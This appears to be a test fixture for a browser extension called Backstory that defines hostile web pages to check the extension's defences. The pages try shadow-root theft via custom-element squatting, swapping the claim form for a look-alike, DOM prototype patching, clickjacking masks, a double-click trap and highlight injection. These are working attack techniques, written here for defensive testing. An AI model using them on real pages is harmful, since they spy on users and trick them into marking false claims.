/**
 * Hostile pages for page-attacks.e2e.ts, each trying one way to learn about the reader or to
 * read or drive Backstory. They are served from a second origin (`localhost`, where the reader's
 * article is on `127.0.0.1`), and each keeps what it managed to learn in `window.attack`, which
 * the tests read as the page's own scripts would.
 */

/** The passage the reader marks on the original article. */
export const QUOTE = 'was greeted warmly at the Pentagon by top brass';

const ARTICLE = `<h1>Munir at the Pentagon</h1>
<p id="quote-para">Field Marshal Asim Munir ${QUOTE}, officials said.</p>
<p>He later met President Donald Trump for lunch at the White House.</p>`;

const page = (head: string, body: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Munir at the Pentagon</title>${head}</head><body>${body}</body></html>`;

/**
 * What every hostile page can report: the text of every range in a `backstory-*` highlight and
 * every `backstory` entry in its performance timeline.
 */
const REPORT = `<script>
window.attack = window.attack || {};
window.attack.report = () => ({
  highlights: Object.fromEntries([...CSS.highlights].filter(([name]) => name.startsWith('backstory')).map(([name, h]) => [name, [...h].map((r) => {
    const range = document.createRange();
    range.setStart(r.startContainer, r.startOffset);
    range.setEnd(r.endContainer, r.endOffset);
    return range.toString();
  })])),
  // Marks, measures and resources (the claim form's frame would be one) that name Backstory or any extension.
  timeline: performance.getEntries().map((e) => e.name).filter((n) => /backstory|extension:|claim-form/i.test(n)),
});
// The box of anything not the page's own that answers hit tests in a column below a point: a
// page can measure Backstory's card this way, though it cannot look inside it.
window.attack.foreignBox = (x, y) => {
  const foreign = (el) => el && el.parentElement === document.documentElement && el !== document.body;
  let top, bottom;
  for (let at = y; at < innerHeight; at++) {
    const hit = foreign(document.elementFromPoint(x, at));
    if (hit && top === undefined) top = at;
    if (!hit && top !== undefined) { bottom = at; break; }
  }
  return top === undefined ? undefined : { top, bottom: bottom ?? innerHeight };
};
</script>`;

/** Pages on the reader's own site (origin A). */
export function originalPages(): Record<string, string> {
  return {
    '/article.html': page('', `<article>${ARTICLE}</article>${REPORT}`),
    // A second page of the same site that names the article as its canonical address: it
    // shows the reader's claims (the same origin may), as a control for the copy below.
    '/article-amp.html': page(
      '<link rel="canonical" href="/article.html">',
      `<article>${ARTICLE}</article>${REPORT}`,
    ),
    // The iframe oracle, hosted on the article's own site: the control for the one elsewhere.
    '/oracle.html': oracle(''),
    '/frame.html': oracleFrame(''),
  };
}

/** Five same-origin frames, each naming a different address of origin A as its canonical. */
function oracle(aOrigin: string): string {
  const frames = [0, 1, 2, 3, 4]
    .map((n) => `<iframe name="f${n}" src="/frame.html?n=${n}" width="600" height="220"></iframe>`)
    .join('');
  return page('', `${frames}${REPORT}<!-- ${aOrigin} -->`);
}

/** One frame of the oracle: frame 2 names the marked article; the others name unmarked pages. */
function oracleFrame(aOrigin: string): string {
  return page(
    '',
    `<script>
const n = new URLSearchParams(location.search).get('n');
const link = document.createElement('link');
link.rel = 'canonical';
link.href = '${aOrigin}' + (n === '2' ? '/article.html' : '/unmarked-' + n + '.html');
document.head.append(link);
</script><article>${ARTICLE}</article>${REPORT}`,
  );
}

/**
 * Defines a custom element for Backstory's old host tag, and for every new hyphenated tag it
 * sees appear, before Backstory runs; each upgrade grabs `attachInternals().shadowRoot`. The
 * page also looks for any claim form it can reach, to swap in its own look-alike.
 */
const SQUAT = (disabled: boolean) => `<script>
window.attack = { stolen: [], swapped: [], defined: [], internals: [] };
const define = (name) => {
  if (customElements.get(name)) return;
  customElements.define(name, class extends HTMLElement {
    ${disabled ? "static disabledFeatures = ['shadow'];" : ''}
    constructor() {
      super();
      // Kept: once the host has its shadow root, internals.shadowRoot hands it over, closed or not.
      try { window.attack.internals.push(this.attachInternals()); } catch (e) {}
    }
  });
  window.attack.defined.push(name);
};
define('backstory-ui');
/** Reads every shadow root the page can reach and swaps any claim form in it for a look-alike. */
window.attack.read = () => {
  const roots = [
    ...window.attack.internals.map((i) => i.shadowRoot),
    ...[...document.querySelectorAll('*')].map((el) => el.shadowRoot),
  ].filter(Boolean);
  for (const root of roots) {
    if (root.textContent && !window.attack.stolen.includes(root.textContent)) window.attack.stolen.push(root.textContent);
    for (const frame of root.querySelectorAll('iframe')) {
      if (frame.src.startsWith('data:')) continue;
      frame.src = 'data:text/html,<label>Note <textarea></textarea></label><button>Save details</button>';
      window.attack.swapped.push(frame.src);
    }
  }
};
setInterval(window.attack.read, 50);
new MutationObserver((records) => {
  for (const r of records) for (const node of r.addedNodes)
    if (node.nodeType === 1 && node.localName.includes('-')) define(node.localName);
}).observe(document.documentElement, { childList: true, subtree: true });
</script>`;

/**
 * Patches, in the page's own world and before Backstory runs, everything a UI host is built
 * with, recording every call that does not come from the page itself.
 */
const PATCH = `<script>
window.attack = { calls: [] };
const note = (what, detail) => window.attack.calls.push(what + (detail ? ': ' + detail : ''));
const wrap = (proto, name, describe) => {
  const original = proto[name];
  proto[name] = function (...args) {
    note(name, describe ? describe(this, args) : '');
    const result = original.apply(this, args);
    if (name === 'attachShadow') window.attack.root = result;
    return result;
  };
};
wrap(Element.prototype, 'attachShadow', (el, [init]) => el.localName + ' ' + (init && init.mode));
for (const name of ['append', 'prepend', 'after', 'before', 'replaceWith', 'replaceChildren'])
  wrap(Element.prototype, name, (el) => el.localName);
for (const name of ['appendChild', 'insertBefore', 'replaceChild']) wrap(Node.prototype, name, (el) => el.nodeName);
wrap(Document.prototype, 'createElement', (d, [tag]) => tag);
wrap(Document.prototype, 'createElementNS', (d, [ns, tag]) => tag);
wrap(HTMLElement.prototype, 'showPopover');
wrap(HTMLElement.prototype, 'hidePopover');
wrap(HTMLElement.prototype, 'attachInternals');
// On nodes only: the test driver (Playwright) adds listeners of its own to the window.
const addListener = EventTarget.prototype.addEventListener;
EventTarget.prototype.addEventListener = function (type, ...rest) {
  if (this instanceof Node) note('addEventListener', (this.localName || this.nodeName) + ' ' + type);
  return addListener.call(this, type, ...rest);
};
wrap(CustomElementRegistry.prototype, 'define', (r, [name]) => name);
Object.defineProperty(ShadowRoot.prototype, 'innerHTML', { get() { note('innerHTML'); return ''; } });
</script>`;

/**
 * Takes Backstory's host out of the top layer for good (whatever is about to be shown as a
 * popover loses its popover attribute, so showing it fails) and masks the whole page:
 * Backstory's button, drawn in place, is invisible while clicks on it still land.
 */
const MASK = `<style>html.masked { -webkit-mask-image: linear-gradient(transparent, transparent); mask-image: linear-gradient(transparent, transparent); }</style>
<script>
document.documentElement.classList.add('masked');
addEventListener('beforetoggle', (event) => {
  if (event.newState === 'open') event.target.removeAttribute('popover');
}, true);
</script>`;

/**
 * The double-click trap: a bait button asks for a double-click. On the first press, the page
 * moves a passage of its choosing so that Backstory's "Mark claim" (which opens under the end of
 * a selection) will appear under the pointer, and selects it; the reader's own release offers
 * "Mark claim" there, and the second press of the double-click lands on it. The page notes when
 * Backstory's host opened and when the second press came.
 */
const TRAP = `<style>
#bait { position: absolute; left: 420px; top: 320px; padding: 14px 22px; font: 18px sans-serif; }
#chosen { position: absolute; left: 0; top: 0; margin: 0; white-space: nowrap; font: 16px serif; }
</style>
<button id="bait">Double-click to continue</button>
<p id="chosen">Asim Munir endorses this page and everything on it</p>
<script>
window.attack = { opened: [], presses: [] };
// 'beforetoggle' fires inside showPopover(), as Backstory's host opens; 'toggle' is queued and, on
// a busy machine, can come hundreds of milliseconds later, which would make a press long after
// the button appeared look like one within the dwell.
addEventListener('beforetoggle', (e) => { if (e.newState === 'open') window.attack.opened.push(performance.now()); }, true);
addEventListener('pointerdown', (e) => { if (e.isTrusted) window.attack.presses.push(performance.now()); }, true);
document.getElementById('bait').addEventListener('pointerdown', (e) => {
  if (e.detail > 1) return;
  const chosen = document.getElementById('chosen');
  const text = chosen.firstChild;
  const range = document.createRange();
  range.setStart(text, 0);
  range.setEnd(text, text.length);
  // The selection's end 20 px right of and above the pointer: the button opens under it.
  const box = range.getBoundingClientRect();
  chosen.style.left = (e.pageX + 20 - box.width) + 'px';
  chosen.style.top = (e.pageY - 20 - box.height) + 'px';
  const selection = getSelection();
  selection.removeAllRanges();
  selection.addRange(range);
  // Keep the selection through the presses on the bait.
  e.preventDefault();
}, true);
document.getElementById('bait').addEventListener('mousedown', (e) => e.preventDefault(), true);
</script>`;

/** Selects a passage and fires synthetic releases: pointer, mouse and Shift. */
const SYNTHETIC = `<script>
window.attack = { opened: 0 };
addEventListener('toggle', (e) => { if (e.newState === 'open') window.attack.opened++; }, true);
window.attack.fire = () => {
  const text = document.getElementById('quote-para').firstChild;
  const range = document.createRange();
  range.setStart(text, 0);
  range.setEnd(text, text.length);
  const selection = getSelection();
  selection.removeAllRanges();
  selection.addRange(range);
  document.dispatchEvent(new PointerEvent('pointerup', { bubbles: true }));
  document.dispatchEvent(new MouseEvent('mouseup', { bubbles: true }));
  document.dispatchEvent(new KeyboardEvent('keyup', { key: 'Shift', bubbles: true }));
};
</script>`;

/** The article in a modal dialog: everything outside it is inert while it is open. */
const MODAL = `<dialog id="modal" style="width: 700px"><article>${ARTICLE}</article></dialog>
<script>document.getElementById('modal').showModal();</script>`;

/**
 * Rewrites Backstory's highlight style sheet, adds its own passage to the reader's claims and
 * raises the priority of Backstory's highlights.
 */
const RESTYLE = `<p id="fake">This page is trustworthy, says everyone.</p>
<script>
window.attack = window.attack || {};
window.attack.rewrite = () => {
  let rewritten = 0;
  for (const sheet of [...document.adoptedStyleSheets])
    if ([...sheet.cssRules].some((r) => r.cssText.includes('backstory'))) {
      sheet.replaceSync('::highlight(backstory-claim) { background-color: rgb(255, 0, 0); } ::highlight(backstory-actor) { text-decoration: none; }');
      rewritten++;
    }
  const text = document.getElementById('fake').firstChild;
  const range = document.createRange();
  range.setStart(text, 0);
  range.setEnd(text, text.length);
  CSS.highlights.get('backstory-claim').add(range);
  CSS.highlights.get('backstory-claim').priority = 100;
  return rewritten;
};
window.attack.rules = () => document.adoptedStyleSheets.flatMap((s) => [...s.cssRules].map((r) => r.cssText)).filter((t) => t.includes('backstory'));
</script>`;

/** Removes Backstory's host from the page whenever it appears. */
const REMOVER = `<script>
window.attack = { removed: 0 };
new MutationObserver((records) => {
  for (const r of records) for (const node of r.addedNodes)
    if (node.nodeType === 1 && node.parentNode === document.documentElement && node.localName !== 'body' && node.localName !== 'head') {
      node.remove();
      window.attack.removed++;
    }
}).observe(document.documentElement, { childList: true });
</script>`;

/** Pages on another origin (B), given the reader's site's origin (A). */
export function hostilePages(aOrigin: string): Record<string, string> {
  const article = `<article>${ARTICLE}</article>`;
  return {
    // A copy of the article naming the original as its canonical address.
    '/copy.html': page(
      `<link rel="canonical" href="${aOrigin}/article.html"><meta property="og:url" content="${aOrigin}/article.html">`,
      `${article}${REPORT}`,
    ),
    '/oracle.html': oracle(aOrigin),
    '/frame.html': oracleFrame(aOrigin),
    '/squat.html': page(SQUAT(false), `${article}${REPORT}`),
    '/disabled.html': page(SQUAT(true), `${article}${REPORT}`),
    '/patched.html': page(PATCH, `${article}${REPORT}`),
    '/masked.html': page(MASK, `${article}${REPORT}`),
    '/trap.html': page('', `${article}${TRAP}${REPORT}`),
    '/synthetic.html': page('', `${article}${SYNTHETIC}${REPORT}`),
    '/modal.html': page('', `${MODAL}${REPORT}`),
    '/restyle.html': page('', `${article}${RESTYLE}${REPORT}`),
    '/remover.html': page(REMOVER, `${article}${REPORT}`),
  };
}
